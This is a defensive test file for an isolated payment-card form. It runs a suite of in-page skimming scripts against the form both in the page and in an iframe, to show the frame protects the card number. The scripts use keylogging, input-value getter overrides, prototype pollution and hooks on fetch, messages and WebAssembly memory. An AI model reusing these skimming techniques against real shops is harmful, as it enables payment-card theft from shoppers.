// What a hostile script with full powers over the shop's page can learn of a card. Each attack is run against the form in
// the page first, to show that it works, and then, the same script, against the form in a frame. The table that this test
// prints is the one in docs/isolated-fields.md.

import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';
import { startIsolation, typeCard } from './isolation.mjs';

/** Of a Visa card that the sandbox knows, with digits that do not repeat. */
const CARD = { number: '4539148803436467', expiry: '1230', cvc: '739', holder: 'Ana Mora' };

let all;
before(async () => {
  all = await startIsolation();
});
after(() => all?.stop());

/** How many digits of the number stand in a row in what was stolen. The first eight and the last four are no secret. */
function stolenDigits(loot) {
  const text = JSON.stringify(loot).replace(/[ \u00a0-]/g, '');
  for (let length = CARD.number.length; length > 0; length--) {
    for (let at = 0; at + length <= CARD.number.length; at++) {
      if (text.includes(CARD.number.slice(at, at + length))) return length;
    }
  }
  return 0;
}

const hasNumber = (loot) => stolenDigits(loot) === CARD.number.length;

const rows = [];
const note = (name, page, frame) => rows.push({ name, page, frame });

// ------------------------------------------------------------------------------------------ attacks that only watch

/**
 * All of these run at once, each with a list of its own in `loot`, before any script of the shop does. `late` of each is
 * called once the card is typed.
 */
function watchers({ isolated }) {
  const loot = {};
  const late = {};
  globalThis.attack = { loot, late };
  const { apply, construct } = Reflect;
  const { push } = Array.prototype;
  /** A spy does not spy on itself, nor on the others. */
  let spying = false;
  const spied = (work) => {
    if (spying) return;
    spying = true;
    try {
      work();
    } catch {
      // What it wants is not there.
    }
    spying = false;
  };
  const watch = (name, begin, end) => {
    loot[name] = [];
    const take = (...what) => {
      for (const one of what) {
        if (typeof one === 'string' && one.length < 4000 && loot[name].length < 5000) apply(push, loot[name], [one]);
      }
    };
    begin?.(take);
    late[name] = () => end?.(take);
  };
  const patch = (object, name, spy, back) => {
    const real = object[name];
    object[name] = function patched(...args) {
      spied(() => apply(spy, this, args));
      const result = new.target ? construct(real, args, new.target) : apply(real, this, args);
      if (back) spied(() => back(result));
      return result;
    };
    object[name].prototype = real.prototype;
  };
  const frame = () => document.querySelector('iframe');
  const attempt = (work) => {
    try {
      return String(work());
    } catch (error) {
      return error.name;
    }
  };

  // --- the document
  watch('reads the fields of the document', null, (take) => {
    const documents = [document];
    for (const one of [() => frame().contentDocument, () => frames[0].document, () => frame().contentWindow.document]) {
      try {
        documents.push(one());
      } catch {}
    }
    for (const one of documents.filter(Boolean)) {
      take(...[...one.querySelectorAll('input')].map(({ value }) => value));
    }
  });
  watch('follows the field that has the focus', (take) => {
    setInterval(() => take(document.activeElement?.value), 50);
  });
  watch('makes a FormData of every form', null, (take) => {
    for (const form of document.querySelectorAll('form')) take(...new FormData(form).values());
  });
  watch('copies the element with what is in it', null, (take) => {
    const from = document.querySelector('#card');
    const copy = from.cloneNode(true);
    take(copy.outerHTML, ...[...copy.querySelectorAll('input')].map(({ value }) => value), from.innerText);
    take(new XMLSerializer().serializeToString(from));
  });
  watch('selects and asks for the selection', null, (take) => {
    const input = document.querySelector('[data-field="number"] input') ?? frame();
    input.focus();
    input.select?.();
    document.execCommand('selectAll');
    take(getSelection().toString(), input.value?.slice(input.selectionStart, input.selectionEnd));
  });
  watch('asks what is under each point', null, (take) => {
    for (let y = 0; y < 600; y += 20) {
      const found = document.elementFromPoint(100, y);
      take(found?.value, document.caretRangeFromPoint?.(100, y)?.startContainer.textContent);
    }
  });
  watch("looks through the frame's window", null, (take) => {
    const window = frame()?.contentWindow ?? globalThis;
    for (const name of ['name', 'origin', 'length', 'status', 'location', 'history', 'localStorage', 'document']) {
      take(attempt(() => (name === 'document' ? window.document.forms[1].elements[0].value : window[name])));
    }
    take(attempt(() => window.eval('document.querySelector("[data-field=number] input").value')));
    take(attempt(() => window[0]?.document.body.innerText));
  });

  // --- events
  watch(
    'listens to every key',
    () => {
      globalThis.attack.keys = '';
      addEventListener(
        'keydown',
        ({ key }) => {
          globalThis.attack.keys += key;
        },
        true,
      );
    },
    (take) => take(globalThis.attack.keys),
  );
  watch('listens to input and composition', (take) => {
    for (const type of ['beforeinput', 'input', 'change', 'textInput', 'compositionend']) {
      addEventListener(type, ({ target, data }) => take(target.value, data), true);
    }
  });
  watch('wraps every listener that is added', (take) => {
    const { addEventListener: add } = EventTarget.prototype;
    EventTarget.prototype.addEventListener = function added(type, listener, ...more) {
      const wrapped = (event) => {
        take(event.target?.value, event.key);
        return typeof listener === 'function' ? listener.call(this, event) : listener?.handleEvent(event);
      };
      return apply(add, this, [type, listener && wrapped, ...more]);
    };
  });
  watch('listens to what is copied, cut and pasted', (take) => {
    for (const type of ['copy', 'cut', 'paste']) {
      addEventListener(
        type,
        (event) => {
          const { value, selectionStart, selectionEnd } = event.target;
          take(value?.slice(selectionStart, selectionEnd), event.clipboardData?.getData('text'));
        },
        true,
      );
    }
  });

  // --- what the program in the page calls
  watch('replaces the getter of every value', (take) => {
    const { get, set } = Object.getOwnPropertyDescriptor(HTMLInputElement.prototype, 'value');
    Object.defineProperty(HTMLInputElement.prototype, 'value', {
      configurable: true,
      get() {
        const value = apply(get, this, []);
        spied(() => take(value));
        return value;
      },
      set(value) {
        spied(() => take(value));
        apply(set, this, [value]);
      },
    });
  });
  watch('replaces the methods of strings', (take) => {
    for (const name of ['replace', 'slice', 'trim', 'replaceAll', 'charCodeAt']) {
      patch(String.prototype, name, function spy() {
        const text = `${this}`;
        if (text.length > 10 && text.length < 30) take(text);
      });
    }
  });
  watch('replaces the methods of arrays and objects', (take) => {
    for (const name of ['fromEntries', 'entries', 'assign', 'keys']) {
      patch(Object, name, (...given) => {
        for (const one of given) take(one?.number, one?.body);
      });
    }
    for (const name of ['map', 'find', 'some', 'filter', 'push']) {
      patch(Array.prototype, name, function spy() {
        if (this.length < 100) for (const one of this) take(one?.value, one?.number);
      });
    }
  });
  watch('pollutes Object.prototype', (take) => {
    // Whoever reads a member that is not there calls this; whoever sets one shows its value.
    for (const name of ['card', 'number', 'cvc', 'pan', 'parents', 'server', 'publicKey']) {
      Object.defineProperty(Object.prototype, name, {
        configurable: true,
        get() {
          spied(() =>
            take(
              this?.value,
              attempt(() => JSON.stringify(this)),
            ),
          );
          return undefined;
        },
        set(value) {
          spied(() => take(value));
          Object.defineProperty(this, name, { value, writable: true, configurable: true, enumerable: true });
        },
      });
    }
  });
  watch('replaces Promise and JSON', (take) => {
    patch(JSON, 'stringify', (given) => {
      if (given?.number || given?.card) take(given.number, given.card?.number);
    });
    patch(JSON, 'parse', (text) => take(text));
    // Without what is replaced elsewhere, a page gets at what a promise ends with.
    patch(Promise.prototype, 'then', (done) => take(String(done)));
    patch(Promise, 'resolve', (given) => take(given?.number, given?.body));
  });
  watch('replaces TextEncoder and TextDecoder, between script and module', (take) => {
    patch(TextEncoder.prototype, 'encodeInto', (text) => take(text));
    patch(TextDecoder.prototype, 'decode', () => {}, take);
  });
  watch("reads the module's memory", (take) => {
    const memories = [];
    const look = () => {
      for (const { buffer } of memories) {
        const text = new TextDecoder('latin1').decode(buffer);
        for (const [run] of text.matchAll(/\d[\d ]{14,20}/g)) take(run);
      }
    };
    const watched = (instance) => {
      if (instance.exports.memory) memories.push(instance.exports.memory);
      const exports = {};
      for (const [name, value] of Object.entries(instance.exports)) {
        exports[name] =
          typeof value === 'function'
            ? (...args) => {
                look();
                return value(...args);
              }
            : value;
      }
      return new Proxy(instance, { get: (target, name) => (name === 'exports' ? exports : Reflect.get(target, name)) });
    };
    WebAssembly.Instance = new Proxy(WebAssembly.Instance, {
      construct: (target, args) => watched(Reflect.construct(target, args)),
    });
    const { instantiate } = WebAssembly;
    WebAssembly.instantiate = async (...args) => {
      const made = await instantiate.apply(WebAssembly, args);
      return made.instance ? { ...made, instance: watched(made.instance) } : watched(made);
    };
  });
  watch('replaces fetch, XMLHttpRequest, WebSocket and sendBeacon', (take) => {
    patch(globalThis, 'fetch', (url, init) => take(String(url), String(init?.body)));
    patch(XMLHttpRequest.prototype, 'send', (body) => take(body));
    patch(WebSocket.prototype, 'send', (body) => take(body));
    patch(navigator, 'sendBeacon', (url, body) => take(url, body));
    patch(globalThis, 'Worker', (url) => take(url));
    patch(Request.prototype, 'text', () => {});
  });

  // --- messages
  watch('listens to all messages, and replaces MessagePort and MessageChannel', (take) => {
    const spread = (data) => take(attempt(() => JSON.stringify(data)));
    addEventListener('message', ({ data }) => spread(data), true);
    patch(MessagePort.prototype, 'postMessage', (data) => spread(data));
    patch(globalThis, 'postMessage', (data) => spread(data));
    const { set } = Object.getOwnPropertyDescriptor(MessagePort.prototype, 'onmessage');
    Object.defineProperty(MessagePort.prototype, 'onmessage', {
      configurable: true,
      set(listener) {
        const heard = (event) => {
          spread(event.data);
          return listener?.(event);
        };
        apply(set, this, [listener && heard]);
      },
    });
    const channel = new BroadcastChannel('cardseal');
    channel.onmessage = ({ data }) => spread(data);
    // Against fields in the page there are no messages; their events carry what is typed.
    if (!isolated) addEventListener('input', ({ target }) => spread(target.value), true);
  });

  // --- what a browser notes by itself
  watch('reads addresses, referrer, history, storage and resource timing', null, (take) => {
    take(location.href, document.referrer, String(history.length), document.cookie);
    take(JSON.stringify({ ...localStorage, ...sessionStorage }));
    take(...performance.getEntries().map(({ name }) => name));
    take(attempt(() => frame().contentWindow.location.href));
  });
}

const WATCHERS_THAT_FIND_NOTHING_IN_A_PAGE = [
  'replaces Promise and JSON',
  'reads addresses, referrer, history, storage and resource timing',
  'pollutes Object.prototype',
];

/** Types the card, takes a token, and gives what each of the watchers has. */
async function watched(isolated) {
  const it = await all.open(isolated, { init: watchers, platform: 'gp_api' });
  await typeCard(it, CARD);
  await it.field('number').click();
  await it.page.keyboard.press('Control+A');
  await it.page.keyboard.press('Control+C');
  await it.page.waitForFunction(() => document.querySelector('#card').state === 'valid');
  await it.page.evaluate(async () => {
    for (const end of Object.values(globalThis.attack.late)) end();
  });
  const token = await it.page.evaluate(() => document.querySelector('#card').tokenize());
  assert.match(token.id, /^tok_/);
  const loot = await it.page.evaluate(() => globalThis.attack.loot);
  await it.close();
  return loot;
}

test('what a script can watch in the page, it cannot watch in the frame', async () => {
  const [page, frame] = [await watched(false), await watched(true)];
  const wrong = [];
  for (const name of Object.keys(page)) {
    const nothing = WATCHERS_THAT_FIND_NOTHING_IN_A_PAGE.includes(name);
    note(name, hasNumber(page[name]) ? 'the number' : 'nothing', `${stolenDigits(frame[name])} digits`);
    if (hasNumber(page[name]) === nothing) wrong.push(`${name}, in the page`);
    // What the page is told: the last four digits, and those of the token.
    if (stolenDigits(frame[name]) > 4)
      wrong.push(`${name}, in the frame: ${JSON.stringify(frame[name]).slice(0, 900)}`);
  }
  assert.deepEqual(wrong, []);
});
